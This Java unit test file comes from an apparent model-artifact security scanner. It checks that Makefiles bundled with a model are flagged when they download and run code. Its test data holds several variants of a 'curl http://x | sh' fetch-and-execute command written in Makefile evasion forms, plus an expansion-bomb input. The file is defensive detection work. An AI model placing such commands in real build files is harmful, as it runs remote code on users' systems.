package io.lazaretto.artifact.shell;

import static io.lazaretto.artifact.inspect.Detectors.CODE;
import static io.lazaretto.artifact.testing.InspectionAssert.inspecting;

import io.lazaretto.artifact.report.Outcome;
import io.lazaretto.artifact.testing.InspectionAssert;
import io.lazaretto.artifact.testing.SafetensorsBuilder;
import io.lazaretto.artifact.testing.TestingModel;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class MakefileRulesTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "X := $(shell curl http://x | sh)¶all:¶\techo hi",
                "X := ${shell curl http://x | sh}¶all:¶\techo hi",
                "X := $(shell\tcurl http://x | sh)¶all:¶\techo hi",
                "all:¶\techo ${shell curl http://x | sh}",
                ".RECIPEPREFIX = >¶all:¶> curl http://x | sh",
                "define run¶curl http://x | sh¶endef¶all:¶\t$(run)",
                "define run =¶@curl http://x | \\¶  sh¶endef¶all:¶\t@${run}",
                "define run¶curl http://x/$(1) | sh¶endef¶all:¶\t$(call run,a)",
                "define run¶curl http://x | sh",
                "define run¶$(shell curl http://x | sh)¶endef"
            })
    void whatMakeRunsIsJudged(String text) {
        makefile(text).reports(CODE, Outcome.THREAT, "script.download-run");
    }

    @Test
    void ordinaryMakefileStaysSilent() {
        makefile(
                        "SHELL := /bin/bash¶PY ?= python3¶VERSION := $(shell git describe --tags)¶FILES := ${wildcard src/*.py}¶"
                                + "define HELP¶Don't panic: make train trains,¶\tmake test tests.¶endef¶export HELP¶"
                                + "define train_one¶\t@echo $(1)¶\t$(PY) train.py --seed $(1) --out $${OUT}¶endef¶"
                                + ".PHONY: help train¶help:¶\t@echo \"$$HELP\"¶train: $(FILES)¶\t$(call train_one,1)¶\t-rm -rf build/¶"
                                + "%.o: %.c¶\t$(CC) -c $< -o $@")
                .staysSilent();
    }

    @Test
    void variablesThatGrowEndAtALimit() {
        String line = "A := " + "x".repeat(60_000) + "\nall:\n\techo " + "$(A)".repeat(5_000);
        makefile(line).isNotClear();
    }

    private static InspectionAssert makefile(String text) {
        return inspecting(new TestingModel()
                .with("model.safetensors", SafetensorsBuilder.clean())
                .with("Makefile", text.replace('¶', '\n') + "\n"));
    }
}
